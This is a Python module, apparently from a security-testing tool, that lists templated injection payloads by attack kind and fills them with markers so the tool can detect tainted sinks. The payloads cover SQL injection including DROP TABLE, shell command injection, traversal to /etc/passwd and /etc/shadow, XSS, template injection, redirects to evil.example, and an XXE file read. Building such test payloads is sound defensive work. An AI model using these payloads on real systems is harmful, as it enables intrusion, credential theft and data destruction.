"""What an attacker sends, by kind.

`§` stands for a marker, of which there are two for each kind: what a sink gets is the attacker's doing only if it changes with the marker.
`¤` stands for the benign value of the program, `°` for the host in it, or for the
current folder if it is about XML.
"""

import base64
import codecs
import html
import json
import os
import urllib.parse

MARKERS = {"path": ("passwd", "shadow"), "redirect": ("a", "b"), "ssrf": ("a", "b"), "log": ("bzr", "qvk")}

PAYLOADS = {
    "sql": [
        "§' OR '§'='§",
        "1 OR 1=1 OR §",
        '§" OR "§"="§',
        "§; DROP TABLE § --",
        "§ DESC, §",
        "§') OR ('§'='§",
        "¤' OR '§'='§",
        "¤ OR § = §",
        "§'OR'§'='§",
        "¤'/**/OR/**/'§'='§",
        "¤\n' OR '§'='§",
        "§` OR `§",
        "§\\' OR 1=1 --",
    ],
    "command": [
        "§; id §",
        "$(id §)",
        "§ | id",
        "§ && id §",
        "¤; id §",
        "§\nid §",
        "§'; id '§",
        '§"; id "§',
        "`id §`",
        "¤\n§ ; id",
        "§;id;§",
        "§&id",
        "/bin/§",
    ],
    "argument": ["-§", "--§=§", "-o§", "§ --§", "¤ -§", "--§\n"],
    "code": [
        "__import__('os').system('§')",
        "§' + __import__('os').getcwd() + '§",
        '§" + __import__("os").getcwd() + "§',
        "§() or §",
        "¤ or §()",
        "§'] or §()['§",
        "§\nimport os\nos.system('§')",
        "¤; §()",
        "1) or §(",
        "§",
    ],
    "path": [
        "../../etc/§",
        "../" * 14 + "etc/§",
        "/etc/§",
        "¤/../../../etc/§",
        "....//....//....//etc/§",
        "..%2f..%2f..%2fetc%2f§",
        "./../../../etc/§",
        "¤/../../etc/§",
        "../../etc/§\n",
    ],
    "xss": [
        "<§>",
        '"><§>',
        "'><§>",
        '" § = "1',
        "' § = '1",
        "x §=1",
        "</script><§>",
        "</title></textarea></style><§>",
        "--><§>",
        "javascript:§()",
        '";§();"',
        "';§();'",
        "§()",
        "¤<§>",
        '¤" § = "1',
        "¤' § = '1",
        "<<§>§>",
        "&lt;§&gt;",
        "%3C§%3E",
    ],
    "template": ["{{ § }}", "{% if § %}x{% endif %}", "${§}", "¤{{ § }}", "<% § %>", "{{§}}", "{{=§}}"],
    "redirect": [
        "http://evil§.example/",
        "//evil§.example/",
        "https://evil§.example/",
        "/\\evil§.example",
        "\\\\evil§.example",
        "///evil§.example/",
        "https:///evil§.example/",
        "https://°@evil§.example/",
        "https://°.evil§.example/",
        "https://evil§°/",
        "https://evil§.example/°",
        "https://evil§.example/?¤",
        "https://evil§.example/#¤",
        "¤@evil§.example/",
        "¤.evil§.example/",
        "https://evil§.example\\@°/",
        "/\t/evil§.example/",
        " //evil§.example/",
        "//evil§.example/¤",
        "evil§.example",
        ".evil§.example/",
        "@evil§.example/",
        "HTTPS://evil§.example/",
    ],
    "deserialization": ["§", "¤§"],
    "ldap": ["§)(uid=*", "*)(§=*", "§*", "§)(|(§=*", "*", "§\\2a)(§=*", "§,ou=§", "¤)(|(§=*)"],
    "xpath": ["§' or '§'='§", '§" or "§"="§', "§ or §", "§'] | //*['§", "¤' or '§'='§", "§/..//§", "*[§]"],
    "nosql": [{"$ne": "§"}, {"$gt": "§"}, {"$regex": "§"}, {"$where": "§"}, "§' || '§'=='§", "§; return §"],
    "header": ["§\r\nX-§: 1", "§\n§", "§\r§", "¤\r\n§", "¤\n§", "§\n"],
    "log": ["§\n§", "§\r\n§", "¤\n§", "§\r§", "¤\r\n§", "§\n"],
    "regex": ["(§+)+$", ".*§", "§|x", "[§", "¤.*§", "§{1,99}x+", "^§$"],
    "format": ["{0.__class__}§", "{§}", "¤{0.__class__.__init__.__globals__}§", "§{0}", "{§.__class__}"],
    "session": ["§", "¤§"],
    "xxe": ['<!DOCTYPE § [<!ENTITY x SYSTEM "file://°/torture-secret-§.txt">]><§>&x;</§>'],
}
PAYLOADS["ssrf"] = PAYLOADS["redirect"] + ["evil§.example/", "evil§.example#", ":x@evil§.example/", "evil§.example?"]

# What nobody would call an attack; a structure that one of these leads to is none of the attacker's making.
HARMLESS = ["zqx", "", "42", "7zqx", "zq x-1.", "zqx" * 30, "Zq,Xy", "zq/xy"]

ENCODINGS = {
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "urlsafe-base64": lambda text: base64.urlsafe_b64encode(text.encode()).decode(),
    "base32": lambda text: base64.b32encode(text.encode()).decode(),
    "hex": lambda text: text.encode().hex(),
    "percent": lambda text: urllib.parse.quote(text, safe=""),
    "reverse": lambda text: text[::-1],
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "html": lambda text: html.escape(text),
    "json": json.dumps,
    "utf-16-hex": lambda text: text.encode("utf-16-le").hex(),
    "unicode-escape": lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
}


def markers(kind):
    return MARKERS.get(kind, ("bzr", "qvk"))


def fill(template, program, marker):
    """A payload with its marker; an object stays an object."""
    if isinstance(template, dict):
        return {key: fill(value, program, marker) for key, value in template.items()}
    host = os.getcwd() if program.kind == "xxe" else urllib.parse.urlsplit(program.benign).hostname or "good.example"
    return template.replace("§", marker).replace("¤", program.benign).replace("°", host)


def encode(value, program):
    for name in program.encodings:
        value = ENCODINGS[name](value if isinstance(value, str) else json.dumps(value))
    return value
